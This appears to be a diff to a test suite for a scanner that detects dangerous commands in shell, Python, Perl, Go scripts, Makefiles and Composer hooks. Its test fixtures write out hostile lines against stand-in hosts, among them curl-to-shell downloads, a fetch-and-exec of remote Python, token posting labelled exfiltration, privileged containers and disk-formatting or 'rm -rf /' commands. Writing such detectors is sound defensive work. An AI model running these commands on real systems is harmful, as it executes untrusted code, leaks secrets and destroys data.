@@ -335,7 +335,7 @@ resource "terraform_data" "x" {
     for (const files of [round, many, long]) {
       const { findings } = scanTexts({ "main.tf": local("sh a.sh"), ...files });
       const unknown = findings.find(({ ruleId }) => ruleId === "runs-code-unknown");
-      expect(unknown?.message).toContain("more than can be followed");
+      expect(unknown?.message).toContain("more code than the scanner follows");
     }
   });
 
@@ -403,9 +403,43 @@ describe("a script that a person starts", () => {
     ["shreds a file of its own", "a.sh", 'shred -u "$HOME/.step/password"\n'],
     ["formats an image", "a.sh", "mkfs.ext4 build/disk.img\n"],
     ["tries things out", "a.bats", "#!/usr/bin/env bats\nrm -rf /\n"],
+    ["signs in with a field of a form", "a.sh", 'curl --form token="$token" https://e.example\n'],
+    ["pushes with a token", "a.sh", 'git push "https://${DOC_TOKEN}@git.example/a.git" main\n'],
+    [
+      "hands the environment to a program",
+      "a.go",
+      "#!/usr/bin/env go\nhttp.Get(x)\ncmd.Env = append(cmd.Env, os.Environ()...)\n",
+    ],
+    [
+      "evaluates a file of its own",
+      "a.py",
+      "import urllib, re\nwith open('a') as f:\n  exec(f.read())\nre.compile(data)\n",
+    ],
+    [
+      "has a block called eval",
+      "a.pl",
+      "#!/usr/bin/perl\nuse LWP::UserAgent;\neval { parse($data) };\n",
+    ],
+    [
+      "names a namespace and a license",
+      "a.py",
+      "import requests\n'''Under http://www.gnu.example/licenses'''\nx = '<svg xmlns=\"http://www.w3.example/svg\">'\n",
+    ],
+    ["asks a host that it is given", "a.py", "import requests\nget('http://{}/a'.format(h))\n"],
+    ["reads an answer of the machine itself", "a.sh", "curl http://127.0.0.1:80/a | sh\n"],
+    [
+      "has a default with a default in it",
+      "a.sh",
+      "A=${1:-`curl https://e.example ${2:-b} -f`}\nB=${A:-$(curl -X ${C} https://e.example)}\n",
+    ],
+    [
+      "runs a function with a name of an answer before",
+      "a.sh",
+      'f() { echo "$1"; }\nf "$(curl https://e.example)"\ng() { python3 -c "print($1)"; }\n',
+    ],
   ])("is no danger if it %s", (_, path, text) => {
     const start = path.endsWith(".py") ? "#!/usr/bin/env python3\n" : "";
-    expect(dangers(path, start + text).filter((id) => !/plain|local/.test(id))).toEqual([]);
+    expect(dangers(path, start + text)).toEqual([]);
   });
 
   it.each([
@@ -428,9 +462,82 @@ describe("a script that a person starts", () => {
       "exfiltration",
     ],
     ["formats a disk", "a.sh", "mkfs.ext4 -F /dev/sdb\n", "destructive"],
-    ["formats a disk that it is given", "a.sh", 'mkfs.ext4 "$DATA_DISK"\n', "destructive"],
+    ["formats a disk that it is given", "a.sh", 'mkfs.ext4 "$DATA_DISK"\n', "by-hand-erasure"],
+    ["pipes an answer", "a.sh", "curl https://e.example/a.sh | sh\n", "by-hand-download"],
+    [
+      "runs a release",
+      "a.sh",
+      "curl -LO https://e.example/a-1.2.3.sh\nsh a-1.2.3.sh\n",
+      "by-hand-release",
+    ],
+    [
+      "starts a privileged container",
+      "a.sh",
+      "docker run --privileged e.example/a\n",
+      "by-hand-host-access",
+    ],
+    [
+      "runs an answer with a name",
+      "a.py",
+      "from urllib.request import urlopen\nf = urlopen('https://e.example/a')\nexec(f.read())\n",
+      "by-hand-download",
+    ],
+    [
+      "asks without TLS",
+      "a.py",
+      "import requests\nrequests.get('http://e.example/a')\n",
+      "plain-request",
+    ],
+    [
+      "posts a token without TLS",
+      "a.sh",
+      'curl -d "token=$token" http://e.example\n',
+      "exfiltration",
+    ],
   ])("is a danger if it %s", (_, path, text, kind) => {
     const start = path.endsWith(".py") ? "#!/usr/bin/env python3\n" : "";
     expect(dangers(path, start + text)).toContain(`runs-code-${kind}`);
+  });
+
+  const found = (files: Record<string, string>) =>
+    scanTexts(files)
+      .findings.filter(({ ruleId }) => ruleId.startsWith("runs-code-"))
+      .map(({ ruleId, file, startLine, message }) => [ruleId.slice(10), file, startLine, message]);
+
+  it("is shown at its line in a recipe, with what make expands", () => {
+    const makefile = `PREFIX := /usr
+X = $(shell date)
+
+all: build
+\t@echo $(PREFIX)
+
+setup: all \\
+  other
+\t@echo $$HOME
+\t-cd x && \\
+\t  curl https://e.example/$(NAME) | sh
+`;
+    expect(found({ Makefile: makefile })).toEqual([
+      ["by-hand-download", "Makefile", 11, "Runs what `https://e.example/${NAME}` answers."],
+    ]);
+  });
+
+  it("is reported once, where it is", () => {
+    const files = {
+      Makefile: "a:\n\tsh a.sh\n",
+      "a.sh": "#!/bin/sh\n. ./b.sh\n",
+      "b.sh": "#!/bin/sh\n\ncurl https://e.example | sh\n",
+    };
+    expect(found(files)).toEqual([
+      ["by-hand-download", "b.sh", 3, "Runs what `https://e.example` answers."],
+    ]);
+  });
+
+  it("runs by itself only for an event of Composer", () => {
+    const scripts = (name: string) => ({
+      "composer.json": JSON.stringify({ scripts: { [name]: ["sudo ./a.sh"] } }),
+    });
+    expect(found(scripts("test"))).toEqual([]);
+    expect(found(scripts("post-install-cmd")).map(([kind]) => kind)).toContain("root");
   });
 });
